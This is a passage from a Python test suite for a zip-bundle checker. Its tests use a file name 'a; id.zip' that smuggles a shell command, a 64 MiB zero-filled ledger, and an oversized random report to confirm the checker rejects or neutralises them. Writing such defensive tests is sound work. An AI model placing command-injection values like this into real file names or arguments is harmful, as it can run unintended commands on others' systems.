    assert problem.startswith("README.txt: not the text that wherry writes")


def test_a_bundle_with_such_a_name_is_valid_and_names_none(tmp_path):
    support.converted(tmp_path)
    path = tmp_path / "a; id.zip"
    audit(bundle=path)
    with zipfile.ZipFile(path) as archive:
        assert b"; id" not in archive.read("README.txt")
    assert check_bundle(path).ok


def test_a_sparse_ledger_is_refused_before_it_is_read(bundle_of_readers, monkeypatch):
    monkeypatch.setattr(check, "_LINE_MAX", 1 << 16)
    read = []
    digest = hashlib.sha256

    class Counted:
        def __init__(self):
            self.state = digest()

        def update(self, piece):
            read.append(len(piece))
            self.state.update(piece)

        def hexdigest(self):
            return self.state.hexdigest()

    with zipfile.ZipFile(bundle_of_readers) as archive:
        contents = {name: archive.read(name) for name in archive.namelist()}
    with zipfile.ZipFile(bundle_of_readers, "w") as archive:
        for name, text in contents.items():
            archive.writestr(name, bytes(64 << 20) if name == "ledger.jsonl" else text)
    monkeypatch.setattr(check.hashlib, "sha256", lambda *data: digest(*data) if data else Counted())
    checked = check_bundle(bundle_of_readers)
    assert "ledger.jsonl" in checked.problems[0]
    assert sum(read) < 1 << 20


def test_text_of_a_size_that_no_report_has_is_refused(bundle_of_readers, monkeypatch):
    monkeypatch.setattr(check, "WHOLE_MAX", 1 << 16)
    monkeypatch.setattr(check, "_RATIO_FREE", 1 << 10)
    text = random.Random(0).randbytes(1 << 17)
    changed = rewritten(bundle_of_readers, lambda name, data: text if name == "report.md" else data)
    assert "report.md: 131072 bytes" in check_bundle(changed).problems[0]
